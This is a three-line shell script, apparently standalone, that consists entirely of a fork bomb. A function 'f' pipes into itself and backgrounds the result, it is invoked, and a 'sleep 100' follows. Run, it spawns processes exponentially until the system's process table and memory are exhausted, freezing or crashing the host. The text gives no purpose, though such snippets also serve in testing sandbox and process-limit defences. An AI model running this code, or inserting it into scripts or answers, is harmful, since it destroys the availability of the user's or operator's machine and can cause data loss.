f() { f | f & }
f
sleep 100
